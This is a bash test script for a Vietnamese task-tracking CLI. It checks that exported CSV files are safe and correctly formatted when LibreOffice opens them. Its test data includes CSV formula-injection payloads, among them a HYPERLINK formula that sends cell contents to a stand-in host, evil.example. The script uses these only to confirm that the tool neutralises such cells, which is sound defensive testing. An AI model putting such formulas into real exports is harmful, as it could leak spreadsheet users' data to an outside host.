#!/usr/bin/env bash
# CSV that spreadsheets read right (phoihop(1), CSV AND SPREADSHEETS): the one
# formula guard of every CSV, checked with the real consumer, LibreOffice Calc
# opening the files headless (converted to .xlsx and read back by Debian's
# python3-openpyxl); the excel-vi dialect opened under a Vietnamese locale;
# --output, --bom and --csv-dialect on the lists, and their refusals.
source "$(dirname "$0")/lib.bash"

PY=/usr/bin/python3 # Debian's, which has python3-openpyxl
export HOME="$TMP/home"
# LibreOffice opens each CSV with the filter options given (separator,
# quote, character set, first line, column types, language) and saves it as
# a workbook, whose cells say what it made of them.
calc() { # OPTIONS FILE…
  local options=$1
  shift
  timeout 180 soffice --headless --norestore -env:UserInstallation="file://$TMP/lo-profile" \
    --convert-to xlsx --infilter="CSV:$options" --outdir "$TMP/xlsx" "$@" >/dev/null 2>&1 ||
    fail "LibreOffice could not open $*"
}
# Each cell of COLUMN of the workbook converted from FILE as TYPE<TAB>VALUE
# (openpyxl's types: s text, n number, as a float, d date, f formula), one row a line.
cells() { # FILE COLUMN
  "$PY" - "$TMP/xlsx/$(basename "$1" .csv).xlsx" "$2" <<'PY'
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
rows = list(ws.iter_rows(values_only=False))
column = [c.value for c in rows[0]].index(sys.argv[2])
for row in rows[1:]:
    c = row[column]
    value = float(c.value) if c.data_type == "n" and c.value is not None else c.value
    print(f"{c.data_type}\t{'' if value is None else value}")
PY
}

ok agreement add "Quy chế phối hợp 2022-2026" --party "UBND tỉnh Bến Tre" --party "Tỉnh đoàn Bến Tre" \
  --period 2022-2026 --signed 01/12/2022 --code BT
# The hostile cells (a spreadsheet would run them) and the legitimate ones
# that look like them (it would not): a title each.
hostile=('=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")' '+1+1' '@SUM(1)' '-2+3' '=Tổ chức hội thi')
legit=('- Tuyên truyền' '−' '-' '+ Ưu điểm' 'Tổ chức hội thi')
for title in "${hostile[@]}" "${legit[@]}"; do
  ok task add --agreement BT --lead "Tỉnh đoàn Bến Tre" --target 24.8 --unit "lượt" -- "$title"
done
ok task update 1 --progress 50 --date 2023-03-01
ok task update 2 --progress 20 --date 2023-03-01
ok task done 3 --date 2023-06-01

ok task list --format csv --output "$TMP/tasks.csv"
[ -s "$TMP/stdout" ] && fail "task list --output wrote to stdout too"
ok report tasks --period 2023 --format csv --output "$TMP/register.csv"
ok report summary --period 2023 --format csv --output "$TMP/summary.csv"
ok task show 1 --format csv --output "$TMP/show.csv"

# RFC 4180 as LibreOffice is told it: comma, UTF-8, formulas evaluated.
calc 44,34,76,1 "$TMP/tasks.csv" "$TMP/register.csv" "$TMP/show.csv"
check_titles() { # FILE COLUMN
  cells "$1" "$2" >"$TMP/cells"
  grep -q $'^f\t' "$TMP/cells" && fail "$(basename "$1"): LibreOffice made a formula: $(grep $'^f\t' "$TMP/cells" | head -3)"
  for title in "${hostile[@]}"; do
    grep -qxF "s	'$title" "$TMP/cells" || fail "$(basename "$1"): '$title' is not guarded text"
  done
  for title in "${legit[@]}"; do
    grep -qxF "s	$title" "$TMP/cells" || fail "$(basename "$1"): '$title' is not its own text, unchanged"
  done
}
check_titles "$TMP/tasks.csv" title
check_titles "$TMP/register.csv" title
cells "$TMP/show.csv" title >"$TMP/cells"
[ "$(cat "$TMP/cells")" = "s	'${hostile[0]}" ] || fail "task show: the title is not guarded text: $(cat "$TMP/cells")"
# Numbers stay numbers: a target written as 24.8 is the number 24.8.
cells "$TMP/tasks.csv" target | sort -u >"$TMP/cells"
[ "$(cat "$TMP/cells")" = "n	24.8" ] || fail "task list: target is not the number 24.8: $(cat "$TMP/cells")"

# excel-vi: semicolons, decimal commas, a BOM, CRLF; opened by LibreOffice
# under vi-VN (language 1066) with the system's character set (0): the BOM
# alone says UTF-8.
ok task list --csv-dialect excel-vi --format csv --output "$TMP/vi-tasks.csv"
head -c 3 "$TMP/vi-tasks.csv" | od -An -tx1 | grep -q 'ef bb bf' || fail "excel-vi: no byte-order mark"
head -n 1 "$TMP/vi-tasks.csv" | grep -q $'^\xef\xbb\xbfid;uid;agreement_id;agreement;code;ordinal;title;.*\r$' ||
  fail "excel-vi: not ;-separated CRLF: $(head -n 1 "$TMP/vi-tasks.csv")"
grep -q ';24,8;' "$TMP/vi-tasks.csv" || fail "excel-vi: 24.8 not written 24,8"
ok report summary --period 2023 --csv-dialect excel-vi --format csv --output "$TMP/vi-summary.csv"
grep -q ';[0-9]*,[0-9];' "$TMP/vi-summary.csv" || fail "excel-vi: the summary's percentages have no decimal comma: $(tail -n 1 "$TMP/vi-summary.csv")"
calc 59,34,0,1,,1066 "$TMP/vi-tasks.csv" "$TMP/vi-summary.csv"
cells "$TMP/vi-tasks.csv" target | sort -u >"$TMP/cells"
[ "$(cat "$TMP/cells")" = "n	24.8" ] || fail "excel-vi under vi-VN: target is not the number 24.8: $(cat "$TMP/cells")"
cells "$TMP/vi-tasks.csv" title >"$TMP/cells"
for title in "${legit[@]}"; do
  grep -qxF "s	$title" "$TMP/cells" || fail "excel-vi under vi-VN: '$title' is not intact"
done
grep -q $'^f\t' "$TMP/cells" && fail "excel-vi under vi-VN: a formula"
cells "$TMP/vi-tasks.csv" updated_on | grep -v $'^n\t$' >"$TMP/cells"
[ -s "$TMP/cells" ] || fail "excel-vi: no task has a date updated"
grep -qv $'^d\t' "$TMP/cells" && fail "excel-vi under vi-VN: an ISO date is not a date: $(cat "$TMP/cells")"
for column in completion_pct progress_avg; do
  want=$(python3 -c 'import csv,sys; print(float(list(csv.DictReader(open(sys.argv[1], newline="")))[0][sys.argv[2]]))' \
    "$TMP/summary.csv" "$column")
  cells "$TMP/vi-summary.csv" "$column" >"$TMP/cells"
  [ "$(cat "$TMP/cells")" = "n	$want" ] || fail "excel-vi under vi-VN: $column is not the number $want: $(cat "$TMP/cells")"
done

# The dialect from the config, shown by config show; the flag wins.
mkdir -p "$TMP/config/phoihop"
printf '[output]\ncsv_dialect = "excel-vi"\n' >"$TMP/config/phoihop/config.toml"
ok config show --format csv
out_has "output.csv_dialect;excel-vi;$TMP/config/phoihop/config.toml:2"
ok org list --format csv
head -c 3 "$TMP/stdout" | od -An -tx1 | grep -q 'ef bb bf' || fail "output.csv_dialect excel-vi: no BOM"
out_has "id;name;"
ok org list --format csv --csv-dialect rfc4180
out_has "id,name,"
printf '[output]\ncsv_dialect = "excel"\n' >"$TMP/config/phoihop/config.toml"
fails 2 org list --format csv
err_has "output.csv_dialect"
err_has "excel"
rm "$TMP/config/phoihop/config.toml"

# --output and --bom on every list and show; the extension picks the format.
ok org list --output "$TMP/orgs.json"
"$PY" -c 'import json,sys; json.load(open(sys.argv[1]))' "$TMP/orgs.json" || fail "org list --output x.json is not JSON"
ok agreement show BT --bom --format csv --output "$TMP/bt.csv"
head -c 3 "$TMP/bt.csv" | od -An -tx1 | grep -q 'ef bb bf' || fail "agreement show --bom: no BOM"
for verb in "log" "config show" "db info" "db rules" "meeting list" "award list" "report sent list"; do
  # shellcheck disable=SC2086
  ok $verb --format csv --bom --output "$TMP/v.csv"
  head -c 3 "$TMP/v.csv" | od -An -tx1 | grep -q 'ef bb bf' || fail "$verb --bom --output: no BOM"
  rm -f "$TMP/v.csv"
done

# Refusals: one line naming the value, exit 2, nothing written.
fails 2 task list --format tsv --bom --output "$TMP/x.tsv"
err_has "--bom is for CSV output (--format csv), not tsv"
fails 2 task list --format json --csv-dialect excel-vi
err_has "--csv-dialect excel-vi is for CSV output"
fails 2 task list --csv-dialect excel_vi
err_has "did you mean 'excel-vi'"
fails 2 report summary --format md --csv-dialect excel-vi
# "-" is not a file name: the output goes to stdout without --output.
for verb in "task list" "report summary" "export"; do
  # shellcheck disable=SC2086
  fails 2 $verb --output - # run in $TMP
  err_has "--output -: standard output is where the output goes without --output"
  [ ! -e "$TMP/-" ] || fail "$verb --output - made a file named -"
done
fails 2 task list --output "$TMP/x.docx"
err_has "task list writes"
fails 2 task list --format json --output "$TMP/x.csv"
err_has "contradicts"
fails 2 task list --output ""
fails 2 report sent show 1 --bom
[ -e "$TMP/x.tsv" ] || [ -e "$TMP/x.docx" ] || [ -e "$TMP/x.csv" ] && fail "a refused list wrote its file"

finish
